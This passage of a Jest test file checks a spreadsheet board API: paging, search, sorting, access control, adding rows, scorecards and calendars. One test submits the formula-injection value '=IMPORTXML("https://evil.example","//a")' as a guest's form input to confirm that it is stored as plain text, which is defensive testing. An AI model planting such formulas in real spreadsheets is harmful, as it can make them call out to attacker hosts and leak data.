import { beforeEach, describe, expect, it, jest } from '@jest/globals';
import { HOOK_TIMEOUT, useTestGateway } from '@tessera/gateway/testing';
import { schema, testDatabaseAdapters } from '@tessera/platform';
import {
  buildXlsx,
  createApp,
  createBlock,
  createBoard,
  createOwnerSession,
  createPage,
  eventually,
  type OwnerSession,
} from '@tessera/testing';
import { eq } from 'drizzle-orm';
import { SpreadsheetsService } from '../spreadsheets.service.js';
import * as sheetsSchema from '../db/schema.js';

jest.setTimeout(60_000);

type SheetAnswer = {
  title: string;
  columns: string[];
  rows: Record<string, string>[];
  total: number;
  page: number;
  page_size: number;
};

const products = Array.from({ length: 25 }, (_, i) => ({
  Name: `Product ${i + 1}`,
  Category: i % 2 === 0 ? 'Lamps' : 'Chairs',
  Price: String((i * 7) % 30),
}));

describe.each(testDatabaseAdapters('sheet_data'))('sheet data on %s', (_kind, options) => {
  const gateway = useTestGateway(options);
  let owner: OwnerSession;
  let spreadsheetId: string;

  beforeEach(async () => {
    owner = await createOwnerSession(gateway.db);
    spreadsheetId = await importShop(owner.workspaceId);
  }, HOOK_TIMEOUT);

  async function importShop(workspaceId: string): Promise<string> {
    const bytes = await buildXlsx([
      {
        title: 'Products',
        rows: [
          ['Name', 'Category', 'Price'],
          ...products.map((p) => [p.Name, p.Category, Number(p.Price)]),
        ],
      },
      {
        title: 'Store Locations',
        rows: [
          ['Store', 'City'],
          ['North', 'Oslo'],
        ],
      },
    ]);
    const imported = await gateway.app
      .get(SpreadsheetsService)
      .importWorkbook(workspaceId, { fileName: 'Shop.xlsx', bytes });
    return imported.id;
  }

  const read = (url: string, headers: Record<string, string> = {}) =>
    gateway.app.inject({ method: 'GET', url, headers });
  const boardSheet = (title: string, query = '') =>
    `/api/board/${spreadsheetId}/sheet/${encodeURIComponent(title)}${query}`;

  describe('GET /api/board/:spreadsheetId/sheet/:sheetTitle', () => {
    it('serves a page of rows, _id first, to a member, accepting the global parameters', async () => {
      const res = await read(
        boardSheet(
          'Products',
          '?page=1&page_size=10&board=%2Fshop&referer=http%3A%2F%2Flocalhost%3A3000%2Fshop&_id=x&_email=&_filters=&_vercel_no_cache=1&unknown=1',
        ),
        { cookie: owner.cookie },
      );
      expect(res.statusCode).toBe(200);
      const body = res.json<SheetAnswer>();
      expect(body).toMatchObject({
        title: 'Products',
        columns: ['Name', 'Category', 'Price'],
        total: 25,
        page: 1,
        page_size: 10,
      });
      expect(body.rows).toHaveLength(10);
      expect(Object.keys(body.rows[0]!)).toEqual(['_id', 'Name', 'Category', 'Price']);
      expect(body.rows.map((r) => r['Name'])).toEqual(products.slice(0, 10).map((p) => p.Name));
      expect(new Set(body.rows.map((r) => r['_id'])).size).toBe(10);
    });

    it('pages in sheet order and answers an empty page past the end', async () => {
      const page3 = (
        await read(boardSheet('Products', '?page=3&page_size=10'), { cookie: owner.cookie })
      ).json<SheetAnswer>();
      expect(page3.rows.map((r) => r['Name'])).toEqual(products.slice(20).map((p) => p.Name));
      const page9 = (
        await read(boardSheet('Products', '?page=9&page_size=10'), { cookie: owner.cookie })
      ).json<SheetAnswer>();
      expect(page9).toMatchObject({ rows: [], total: 25, page: 9 });
      const bad = await read(boardSheet('Products', '?page=0'), { cookie: owner.cookie });
      expect(bad.statusCode).toBe(400);
    });

    it('searches all values, case-insensitive, any of comma-separated terms', async () => {
      const res = await read(boardSheet('Products', '?search=product%2012,%20PRODUCT%203'), {
        cookie: owner.cookie,
      });
      const body = res.json<SheetAnswer>();
      expect(body.rows.map((r) => r['Name']).sort()).toEqual(['Product 12', 'Product 3']);
      expect(body.total).toBe(2);
      const chairs = (
        await read(boardSheet('Products', '?search=chairs&page_size=5'), { cookie: owner.cookie })
      ).json<SheetAnswer>();
      expect(chairs.total).toBe(12);
      expect(chairs.rows).toHaveLength(5);
    });

    it('sorts numbers by value, ascending or descending', async () => {
      const prices = (answer: SheetAnswer) => answer.rows.map((r) => Number(r['Price']));
      const up = (
        await read(boardSheet('Products', '?sort=Price&page_size=100'), { cookie: owner.cookie })
      ).json<SheetAnswer>();
      expect(prices(up)).toEqual([...prices(up)].sort((a, b) => a - b));
      const down = (
        await read(boardSheet('Products', '?sort=-Price&page_size=100'), { cookie: owner.cookie })
      ).json<SheetAnswer>();
      expect(prices(down)).toEqual([...prices(up)].reverse());
      expect(down.total).toBe(25);
      const unknown = await read(boardSheet('Products', '?sort=Colour'), { cookie: owner.cookie });
      expect(unknown.statusCode).toBe(400);
      expect(unknown.json()).toMatchObject({
        message: 'Sheet "Products" has no column "Colour" to sort by.',
      });
    });

    it('reads a sheet whose title has spaces, and names an unknown sheet', async () => {
      const res = await read(boardSheet('Store Locations'), { cookie: owner.cookie });
      expect(res.json<SheetAnswer>().rows).toEqual([
        { _id: expect.any(String), Store: 'North', City: 'Oslo' },
      ]);
      const missing = await read(boardSheet('Nope'), { cookie: owner.cookie });
      expect(missing.statusCode).toBe(404);
      expect(missing.json()).toMatchObject({ message: 'Sheet "Nope" not found.' });
    });

    it('serves guests only through a public board that uses the spreadsheet', async () => {
      const publicBoard = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'shop',
        public: true,
      });
      const privateBoard = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'private-shop',
      });
      const table = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: publicBoard.id,
        type: 'table',
        settings: { sheet_title: 'Products' },
      });
      const otherSheet = await importShop(owner.workspaceId);
      const unrelated = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId: otherSheet,
        slug: 'other',
        public: true,
      });

      const ok = await read(
        boardSheet('Products', `?board=%2F${publicBoard.slug}&block_id=${table}`),
      );
      expect(ok.statusCode).toBe(200);
      expect(ok.json<SheetAnswer>().total).toBe(25);
      // A guest reads only through a block showing the sheet, so its filters always apply.
      const noBlock = await read(boardSheet('Products', `?board=%2F${publicBoard.slug}`));
      expect(noBlock.statusCode).toBe(404);

      for (const query of [
        '',
        `?board=%2F${privateBoard.slug}`,
        `?board=%2F${unrelated.slug}`,
        '?board=%2Fnothing',
      ]) {
        const refused = await read(boardSheet('Products', query));
        expect(refused.statusCode).toBe(404);
        expect(refused.json()).toMatchObject({ message: 'Sheet not found.' });
      }
    });

    it("never serves another workspace's spreadsheet, and does not reveal whether it exists", async () => {
      const stranger = await createOwnerSession(gateway.db);
      const theirs = await read(boardSheet('Products'), { cookie: stranger.cookie });
      const nothing = await read('/api/board/no-such-id/sheet/Products', {
        cookie: stranger.cookie,
      });
      for (const res of [theirs, nothing]) {
        expect(res.statusCode).toBe(404);
        expect(res.json()).toMatchObject({ message: 'Sheet not found.' });
      }
      // A public board of theirs naming our spreadsheet does not open it either.
      await createBoard(gateway.db, {
        workspaceId: stranger.workspaceId,
        spreadsheetId,
        slug: 'sneaky',
        public: true,
      });
      const sneaky = await read(boardSheet('Products', '?board=%2Fsneaky'));
      expect(sneaky.statusCode).toBe(404);
      expect(sneaky.json()).toMatchObject({ message: 'Sheet not found.' });
    });
  });

  describe('GET /v3/api/page/sheet/:sheetTitle', () => {
    const pageSheet = (title: string, query = '') =>
      `/v3/api/page/sheet/${encodeURIComponent(title)}${query}`;

    it("serves the sheet of a public app's spreadsheet on the app's host", async () => {
      const app = await createApp(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        name: 'shop',
        public: true,
      });
      const home = await createPage(gateway.db, { workspaceId: owner.workspaceId, appId: app.id });
      const table = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        pageId: home,
        type: 'table',
        settings: { sheet_title: 'Products' },
      });
      const res = await read(pageSheet('Products', `?page_size=5&sort=-Name&block_id=${table}`), {
        host: 'shop.localhost:3000',
      });
      expect(res.statusCode).toBe(200);
      const body = res.json<SheetAnswer>();
      expect(body.total).toBe(25);
      expect(body.rows.map((r) => r['Name'])).toEqual([
        'Product 25',
        'Product 24',
        'Product 23',
        'Product 22',
        'Product 21',
      ]);
    });

    it("serves a private app only to its owners' app-editor sessions for that app", async () => {
      const shop = await createApp(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        name: 'shop',
      });
      const other = await createApp(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        name: 'other',
      });
      const shopEditor = await createOwnerSession(gateway.db, {
        workspaceId: owner.workspaceId,
        appId: shop.id,
      });
      const otherEditor = await createOwnerSession(gateway.db, {
        workspaceId: owner.workspaceId,
        appId: other.id,
      });
      const host = 'shop.localhost:3000';

      expect(
        (await read(pageSheet('Products'), { host, cookie: shopEditor.cookie })).statusCode,
      ).toBe(200);
      const refusedHeaders: Record<string, string>[] = [
        { host },
        { host, cookie: otherEditor.cookie },
        { host, cookie: owner.cookie },
      ];
      for (const headers of refusedHeaders) {
        const refused = await read(pageSheet('Products'), headers);
        expect(refused.statusCode).toBe(404);
        expect(refused.json()).toMatchObject({ message: 'Sheet not found.' });
      }
    });

    it('resolves no app on the dashboard host, www, or an unknown app', async () => {
      await createApp(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        name: 'shop',
        public: true,
      });
      for (const host of [
        'localhost:3000',
        'www.localhost:3000',
        'nope.localhost:3000',
        '123.localhost:3000',
      ]) {
        const res = await read(pageSheet('Products'), { host });
        expect(res.statusCode).toBe(404);
      }
    });
  });

  describe('adding rows', () => {
    const addBoardRow = (slug: string | null, body: unknown, cookie?: string) =>
      gateway.app.inject({
        method: 'POST',
        url: `${boardSheet('Products')}/rows${slug ? `?board=%2F${slug}` : ''}`,
        headers: cookie ? { cookie } : {},
        payload: body as Record<string, unknown>,
      });

    async function rowsOfProducts() {
      return gateway.db
        .select({
          position: sheetsSchema.sheetRows.position,
          values: sheetsSchema.sheetRows.values,
        })
        .from(sheetsSchema.sheetRows)
        .innerJoin(sheetsSchema.sheets, eq(sheetsSchema.sheets.id, sheetsSchema.sheetRows.sheetId))
        .where(eq(sheetsSchema.sheets.spreadsheetId, spreadsheetId))
        .orderBy(sheetsSchema.sheetRows.position)
        .then((rows) => rows.filter((r) => 'Price' in r.values));
    }

    async function publicBoardWith(type: string, settings: Record<string, unknown>) {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'shop',
        public: true,
      });
      const blockId = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
        type,
        settings: { sheet_title: 'Products', ...settings },
      });
      return { board, blockId };
    }

    it("adds a guest's form row as plain text, visible in the next read", async () => {
      const { blockId } = await publicBoardWith('form', {});
      const formula = '=IMPORTXML("https://evil.example","//a")';
      const res = await addBoardRow('shop', {
        block_id: blockId,
        values: { Name: formula, Price: '+1+2' },
      });
      expect(res.statusCode).toBe(201);
      const { row } = res.json<{ row: Record<string, string> }>();
      expect(row).toEqual({ _id: expect.any(String), Name: formula, Category: '', Price: '+1+2' });

      // Accepted: the write and its event are stored before the answer...
      const events = await gateway.db
        .select()
        .from(schema.outbox)
        .where(eq(schema.outbox.name, 'sheet.row-written'));
      expect(events.map((e) => e.payload)).toEqual([
        {
          workspaceId: owner.workspaceId,
          spreadsheetId,
          sheetTitle: 'Products',
          writeId: expect.any(String),
          rowId: row['_id'],
          kind: 'add',
        },
      ]);
      // ...and the workbook gets the row, as plain text, in the background.
      await eventually(async () => {
        const stored = await rowsOfProducts();
        expect(stored.at(-1)).toEqual({
          position: 26,
          values: { Name: formula, Category: '', Price: '+1+2' },
        });
      });
      const [sheet] = await gateway.db
        .select()
        .from(sheetsSchema.sheets)
        .where(eq(sheetsSchema.sheets.title, 'Products'));
      expect(sheet?.rowCount).toBe(26);

      const next = (
        await read(boardSheet('Products', `?board=%2Fshop&page=3&page_size=10`), {
          cookie: owner.cookie,
        })
      ).json<SheetAnswer>();
      expect(next.total).toBe(26);
      expect(next.rows.at(-1)).toEqual(row);
    });

    it('refuses unknown columns and empty rows, storing nothing', async () => {
      const { blockId } = await publicBoardWith('form', {});
      const unknown = await addBoardRow('shop', {
        block_id: blockId,
        values: { Name: 'x', Colour: 'red', _id: 'mine' },
      });
      expect(unknown.statusCode).toBe(400);
      expect(unknown.json()).toMatchObject({
        message: 'Sheet "Products" has no columns "Colour", "_id".',
      });
      const empty = await addBoardRow('shop', { block_id: blockId, values: { Name: '  ' } });
      expect(empty.statusCode).toBe(400);
      expect(empty.json()).toMatchObject({ message: 'Fill in at least one field.' });
      const invalid = await addBoardRow('shop', { values: { Name: 'x' } });
      expect(invalid.statusCode).toBe(400);
      expect(await rowsOfProducts()).toHaveLength(25);
    });

    it('lets tables and lists add rows as their add_new_row permission says', async () => {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'shop',
        public: true,
      });
      const block = (type: string, add_new_row?: string) =>
        createBlock(gateway.db, {
          workspaceId: owner.workspaceId,
          boardId: board.id,
          type,
          settings: { sheet_title: 'Products', ...(add_new_row ? { add_new_row } : {}) },
        });
      const values = { Name: 'New' };
      const cases: [string, string | undefined, string | undefined, number][] = [
        ['table', undefined, undefined, 403],
        ['table', 'None', owner.cookie, 403],
        ['table', 'Admins', undefined, 403],
        ['table', 'Admins', owner.cookie, 201],
        ['list', 'Admins & Guests', undefined, 201],
        ['table', 'Everyone', undefined, 201],
        ['chart', 'Everyone', undefined, 403],
      ];
      for (const [type, permission, cookie, status] of cases) {
        const res = await addBoardRow(
          'shop',
          { block_id: await block(type, permission), values },
          cookie,
        );
        expect([type, permission, Boolean(cookie), res.statusCode]).toEqual([
          type,
          permission,
          Boolean(cookie),
          status,
        ]);
        if (status === 403)
          expect(res.json()).toMatchObject({
            message: 'You are not allowed to add rows to this sheet.',
          });
      }
      await eventually(async () => expect(await rowsOfProducts()).toHaveLength(28));
    });

    it("adds an event's registrations until its deadline, and only its fields", async () => {
      const registration = { axis: [{ column: 'Name' }, { column: 'Category' }] };
      const open = await publicBoardWith('event', {
        ...registration,
        start_date: '2099-06-10',
        registration_deadline: '2099-06-01T12:00',
        time_zone: 'Europe/Oslo',
      });
      const added = await addBoardRow('shop', {
        block_id: open.blockId,
        values: { Name: 'Ada', Category: 'Guest' },
      });
      expect(added.statusCode).toBe(201);
      const foreign = await addBoardRow('shop', {
        block_id: open.blockId,
        values: { Name: 'Ada', Price: '0' },
      });
      expect(foreign.statusCode).toBe(400);

      const closed = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: open.board.id,
        type: 'event',
        settings: { sheet_title: 'Products', ...registration, start_date: '2020-06-10' },
      });
      const late = await addBoardRow('shop', { block_id: closed, values: { Name: 'Late' } });
      expect(late.statusCode).toBe(403);
      expect(late.json()).toMatchObject({ message: 'Registration for this event has closed.' });
      const off = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: open.board.id,
        type: 'event',
        settings: { sheet_title: 'Products', ...registration, registration_button: false },
      });
      const refused = await addBoardRow('shop', { block_id: off, values: { Name: 'Off' } });
      expect(refused.statusCode).toBe(403);
      expect(refused.json()).toMatchObject({
        message: 'You are not allowed to add rows to this sheet.',
      });
      await eventually(async () => expect(await rowsOfProducts()).toHaveLength(26));
      expect((await rowsOfProducts()).at(-1)?.values).toEqual({
        Name: 'Ada',
        Category: 'Guest',
        Price: '',
      });
    });

    it('refuses blocks of other boards or sheets, and guests of private boards', async () => {
      const { blockId } = await publicBoardWith('form', {});
      const elsewhere = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'elsewhere',
        public: true,
      });
      const foreign = await addBoardRow('elsewhere', { block_id: blockId, values: { Name: 'x' } });
      expect(foreign.statusCode).toBe(404);
      expect(foreign.json()).toMatchObject({ message: 'Block not found.' });
      expect(
        (await addBoardRow(null, { block_id: blockId, values: { Name: 'x' } })).statusCode,
      ).toBe(404);

      const storesForm = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: elsewhere.id,
        type: 'form',
        settings: { sheet_title: 'Store Locations' },
      });
      expect(
        (await addBoardRow('elsewhere', { block_id: storesForm, values: { Name: 'x' } }))
          .statusCode,
      ).toBe(403);

      const hidden = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'hidden',
      });
      const hiddenForm = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: hidden.id,
        type: 'form',
        settings: { sheet_title: 'Products' },
      });
      const guest = await addBoardRow('hidden', { block_id: hiddenForm, values: { Name: 'x' } });
      expect(guest.statusCode).toBe(404);
      expect(guest.json()).toMatchObject({ message: 'Sheet not found.' });
      expect(
        (await addBoardRow('hidden', { block_id: hiddenForm, values: { Name: 'x' } }, owner.cookie))
          .statusCode,
      ).toBe(201);
      await eventually(async () => expect(await rowsOfProducts()).toHaveLength(26));
    });

    it("adds a row from a form on a page of the host's app only", async () => {
      const shop = await createApp(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        name: 'shop',
        public: true,
      });
      const other = await createApp(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        name: 'other',
        public: true,
      });
      const home = await createPage(gateway.db, { workspaceId: owner.workspaceId, appId: shop.id });
      const otherHome = await createPage(gateway.db, {
        workspaceId: owner.workspaceId,
        appId: other.id,
      });
      const form = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        pageId: home,
        type: 'form',
        settings: { sheet_title: 'Products' },
      });
      const otherForm = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        pageId: otherHome,
        type: 'form',
        settings: { sheet_title: 'Products' },
      });
      const post = (blockId: string) =>
        gateway.app.inject({
          method: 'POST',
          url: '/v3/api/page/sheet/Products/rows',
          headers: { host: 'shop.localhost:3000' },
          payload: { block_id: blockId, values: { Name: 'From the app', Price: '5' } },
        });
      const added = await post(form);
      expect(added.statusCode).toBe(201);
      expect(added.json()).toMatchObject({
        row: { Name: 'From the app', Category: '', Price: '5' },
      });
      expect((await post(otherForm)).statusCode).toBe(404);
      // The form shows visitors none of the answers; its owner sees the row.
      const read26 = (
        await read(boardSheet('Products', '?search=from%20the%20app'), { cookie: owner.cookie })
      ).json<SheetAnswer>();
      expect(read26.rows).toEqual([added.json<{ row: Record<string, string> }>().row]);
    });
  });

  describe('scores (a scorecard)', () => {
    const lampsOnly = [
      {
        name: 'lamps',
        active: true,
        condition: '=',
        sheet_column: { sheet: 'Products', column: 'Category' },
        value: 'Lamps',
      },
    ];
    async function scorecardOnPublicBoard(
      axis: Record<string, unknown>[],
      filters: Record<string, unknown>[] = lampsOnly,
    ) {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'scores',
        public: true,
      });
      const blockId = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
        type: 'scorecard',
        settings: { sheet_title: 'Products', filters, axis },
      });
      return blockId;
    }
    const lamps = products
      .filter((product) => product.Category === 'Lamps')
      .sort((a, b) => Number(b.Price) - Number(a.Price));
    const sum = lamps.reduce((total, product) => total + Number(product.Price), 0);
    const allPrices = products.reduce((total, product) => total + Number(product.Price), 0);

    it('gives a visitor the figures of the block’s cards over every row it keeps, and no rows', async () => {
      const blockId = await scorecardOnPublicBoard([
        { column: 'Price' },
        { column: 'Price', function: 'average' },
        { column: 'Name', function: 'last row' },
      ]);
      // The visitor's own scores, page size, sort and search are not what the block shows: ignored.
      const asked = encodeURIComponent(JSON.stringify([{ column: 'Name', function: 'first row' }]));
      const res = await read(
        boardSheet(
          'Products',
          `?board=%2Fscores&block_id=${blockId}&page_size=1000&sort=Price&search=Product%201&scores=${asked}`,
        ),
      );
      expect(res.statusCode).toBe(200);
      const answer = res.json<SheetAnswer & { scores: unknown[] }>();
      expect(answer.rows).toEqual([]);
      expect(answer.total).toBe(lamps.length);
      expect(answer.scores).toEqual([
        { column: 'Price', function: 'sum', decimal: 'period', value: sum },
        { column: 'Price', function: 'average', decimal: 'period', value: sum / lamps.length },
        { column: 'Name', function: 'last row', decimal: 'period', value: 'Product 25' },
      ]);
    });

    it('computes a card of another sheet over every row of it, and says when its sheet or column is gone', async () => {
      const blockId = await scorecardOnPublicBoard(
        [
          { column: 'Price' },
          { sheet_title: 'Store Locations', column: 'City', function: 'last row' },
          { sheet_title: 'Store Locations', column: 'Price' },
          { sheet_title: 'Archive', column: 'Price' },
        ],
        [],
      );
      // A visitor asking for another sheet's figures of their own choosing gets the block's.
      const asked = encodeURIComponent(
        JSON.stringify([{ sheet: 'Store Locations', column: 'Store', function: 'first row' }]),
      );
      const res = await read(
        boardSheet('Products', `?board=%2Fscores&block_id=${blockId}&scores=${asked}`),
      );
      expect(res.statusCode).toBe(200);
      const answer = res.json<SheetAnswer & { scores: unknown[] }>();
      expect(answer.rows).toEqual([]);
      expect(answer.scores).toEqual([
        { column: 'Price', function: 'sum', decimal: 'period', value: allPrices },
        {
          sheet: 'Store Locations',
          column: 'City',
          function: 'last row',
          decimal: 'period',
          value: 'Oslo',
        },
        {
          sheet: 'Store Locations',
          column: 'Price',
          function: 'sum',
          decimal: 'period',
          value: null,
          missing: 'column',
        },
        {
          sheet: 'Archive',
          column: 'Price',
          function: 'sum',
          decimal: 'period',
          value: null,
          missing: 'sheet',
        },
      ]);
    });

    it('leaves out a figure of another sheet on a block with filters (it would count what they hide)', async () => {
      const blockId = await scorecardOnPublicBoard([
        { column: 'Price' },
        { sheet_title: 'Store Locations', column: 'City', function: 'last row' },
      ]);
      const res = await read(boardSheet('Products', `?board=%2Fscores&block_id=${blockId}`));
      expect(res.json<{ scores: unknown[] }>().scores).toEqual([
        { column: 'Price', function: 'sum', decimal: 'period', value: sum },
      ]);
    });

    it('computes the figures an editor previews, and nothing for unknown columns', async () => {
      const blockId = await scorecardOnPublicBoard([{ column: 'Price' }]);
      const scores = encodeURIComponent(
        JSON.stringify([
          { column: 'Name', function: 'first row' },
          { column: 'constructor', function: 'sum' },
        ]),
      );
      const res = await read(
        boardSheet('Products', `?board=%2Fscores&block_id=${blockId}&sort=-Price&scores=${scores}`),
        { cookie: owner.cookie },
      );
      expect(res.statusCode).toBe(200);
      expect(res.json<{ scores: unknown[] }>().scores).toEqual([
        { column: 'Name', function: 'first row', decimal: 'period', value: lamps[0]!.Name },
        { column: 'constructor', function: 'sum', decimal: 'period', value: null },
      ]);
    });

    it('refuses scores that are not JSON or not of the four functions', async () => {
      const bad = await read(boardSheet('Products', '?scores=sum'), { cookie: owner.cookie });
      expect(bad.statusCode).toBe(400);
      expect(bad.json()).toMatchObject({ message: 'The scores are not valid: they are not JSON.' });
      const unknown = encodeURIComponent(JSON.stringify([{ column: 'Price', function: 'max' }]));
      const refused = await read(boardSheet('Products', `?scores=${unknown}`), {
        cookie: owner.cookie,
      });
      expect(refused.statusCode).toBe(400);
      expect(refused.json<{ message: string }>().message).toMatch(/^The scores are not valid: /);
    });
  });

  describe('a calendar period', () => {
    async function calendarOnPublicBoard() {
      const bytes = await buildXlsx([
        {
          title: 'Events',
          rows: [
            ['Title', 'Start', 'End', 'Note'],
            ['Before', '2026-10-20T09:00', '2026-10-21T10:00', '2026-11-05'],
            ['Spanning', '2026-10-30T09:00', '2026-11-02T10:00', ''],
            ['Inside', '2026-11-15T09:00', '', ''],
            ['Ends before it starts', '2026-11-20T09:00', '2026-11-01T10:00', ''],
            ['Unreadable', 'next week', '', ''],
            ['No start', '', '', ''],
            ['After', '2026-12-20', '', '2026-11-05'],
          ],
        },
      ]);
      const imported = await gateway.app
        .get(SpreadsheetsService)
        .importWorkbook(owner.workspaceId, { fileName: 'Events.xlsx', bytes });
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId: imported.id,
        slug: 'events',
        public: true,
      });
      const blockId = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
        type: 'calendar',
        settings: {
          sheet_title: 'Events',
          start_time_column: 'Start',
          end_time_column: 'End',
          event_title_column: 'Title',
        },
      });
      const url = (period: Record<string, string>, cookie?: string) =>
        read(
          `/api/board/${imported.id}/sheet/Events?board=%2Fevents&block_id=${blockId}&period=${encodeURIComponent(JSON.stringify(period))}`,
          cookie ? { cookie } : {},
        );
      return url;
    }
    const titles = (res: { json: <T>() => T }) =>
      res.json<SheetAnswer>().rows.map((row) => row['Title']);

    it('reads only the rows whose events touch the days shown, over the saved columns for a visitor', async () => {
      const readPeriod = await calendarOnPublicBoard();
      // A visitor naming other columns still gets the block's start and end.
      const res = await readPeriod({
        start: 'Note',
        end: '',
        from: '2026-11-01',
        to: '2026-11-30',
      });
      expect(res.statusCode).toBe(200);
      expect(titles(res)).toEqual([
        'Spanning',
        'Inside',
        'Ends before it starts',
        // Kept so that the calendar can say it cannot place it.
        'Unreadable',
      ]);
      expect(res.json<SheetAnswer>().total).toBe(4);
      // One day: only the events on it.
      const day = await readPeriod({ start: 'Start', from: '2026-11-02', to: '2026-11-02' });
      expect(titles(day)).toEqual(['Spanning', 'Unreadable']);
    });

    it('reads an editor’s preview over the columns asked for, and refuses a bad period', async () => {
      const readPeriod = await calendarOnPublicBoard();
      const preview = await readPeriod(
        { start: 'Note', from: '2026-11-01', to: '2026-11-30' },
        owner.cookie,
      );
      expect(titles(preview)).toEqual(['Before', 'After']);
      const backwards = await readPeriod(
        { start: 'Start', from: '2026-11-30', to: '2026-11-01' },
        owner.cookie,
      );
      expect(backwards.statusCode).toBe(400);
      expect(backwards.json()).toMatchObject({
        message: 'The calendar period is not valid: The period ends before it starts.',
      });
      const notADay = await readPeriod({ start: 'Start', from: '2026-02-30', to: '2026-03-01' });
      expect(notADay.statusCode).toBe(400);
      expect(notADay.json()).toMatchObject({
        message: 'The calendar period is not valid: Write the days YYYY-MM-DD.',
      });
    });
  });

  describe('item details', () => {
    it('give a visitor one row: the record asked for, else the first kept, never another page', async () => {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'details',
        public: true,
      });
      const blockId = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
        type: 'item details',
        settings: { sheet_title: 'Products', header_column: 'Name' },
      });
      const rows = async (query: string) =>
        (
          await read(boardSheet('Products', `?board=%2Fdetails&block_id=${blockId}${query}`))
        ).json<SheetAnswer>().rows;
      const first = await rows('&page=3&page_size=100&search=Product%2025&sort=-Name');
      expect(first.map((row) => row['Name'])).toEqual(['Product 1']);
      const all = await read(boardSheet('Products', '?page_size=100'), { cookie: owner.cookie });
      const tenth = all.json<SheetAnswer>().rows[9]!;
      expect((await rows(`&record=${tenth['_id']}`)).map((row) => row['Name'])).toEqual([
        'Product 10',
      ]);
      expect(await rows('&record=nope')).toEqual([]);
    });
  });

  describe('forms and events (they add rows, and show none)', () => {
    async function onPublicBoard(type: string, settings: Record<string, unknown>) {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: `answers-${type}`,
        public: true,
      });
      return createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
        type,
        settings: { sheet_title: 'Products', ...settings },
      });
    }
    const readThrough = async (type: string, blockId: string, query = '') => {
      const res = await read(
        boardSheet(
          'Products',
          `?board=%2Fanswers-${type}&block_id=${blockId}&page_size=1000${query}`,
        ),
      );
      expect(res.statusCode).toBe(200);
      return res.json<SheetAnswer>();
    };

    it("gives a form's visitors only the columns its select fields take choices from", async () => {
      const blockId = await onPublicBoard('form', {
        axis: [
          { column: 'Name', type: 'text' },
          { column: 'Category', type: 'select', from_google_sheet: true },
          { column: 'Price', type: 'multi-select', from_google_sheet: false, options: 'a, b' },
        ],
      });
      // A search or sort cannot probe the hidden columns either: both are ignored. What comes
      // is each choice once, numbered afresh: no row ids, and no count of the answers.
      const answer = await readThrough('form', blockId, '&search=Product%2025&sort=-Price');
      expect(answer).toMatchObject({
        columns: ['Category'],
        rows: [
          { _id: '1', Category: 'Lamps' },
          { _id: '2', Category: 'Chairs' },
        ],
        total: 2,
      });
    });

    it('gives no rows through a form without such choices, nor through an event', async () => {
      const form = await onPublicBoard('form', { axis: [{ column: 'Name', type: 'text' }] });
      expect(await readThrough('form', form)).toMatchObject({ rows: [], columns: [], total: 0 });
      const event = await onPublicBoard('event', { axis: [{ column: 'Name', type: 'text' }] });
      expect(await readThrough('event', event)).toMatchObject({ rows: [], columns: [], total: 0 });
    });
  });

  describe("a block's own order (a datalist's sorting)", () => {
    it('pages through the rows in the block’s order unless the visitor chose another', async () => {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: 'timeline',
        public: true,
      });
      const blockId = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
        type: 'datalist',
        settings: {
          sheet_title: 'Products',
          sorting: 'Descending',
          sort_column: 'Name',
          axis: [{ column: 'Price' }],
        },
      });
      const page = async (query: string) =>
        (
          await read(boardSheet('Products', `?board=%2Ftimeline&block_id=${blockId}${query}`))
        ).json<SheetAnswer>();
      const names = products.map((product) => product.Name);
      const descending = [...names].sort((a, b) => b.localeCompare(a, 'en', { numeric: true }));
      expect((await page('&page=2&page_size=5')).rows.map((row) => row['Name'])).toEqual(
        descending.slice(5, 10),
      );
      expect((await page('&page_size=3&sort=Name')).rows.map((row) => row['Name'])).toEqual(
        names.slice(0, 3),
      );
    });
  });

  describe('GET .../sheet/:sheetTitle/csv', () => {
    async function publicBoardWith(settings: Record<string, unknown>) {
      const board = await createBoard(gateway.db, {
        workspaceId: owner.workspaceId,
        spreadsheetId,
        slug: `csv-${Math.random().toString(36).slice(2, 8)}`,
        public: true,
      });
      const blockId = await createBlock(gateway.db, {
        workspaceId: owner.workspaceId,
        boardId: board.id,
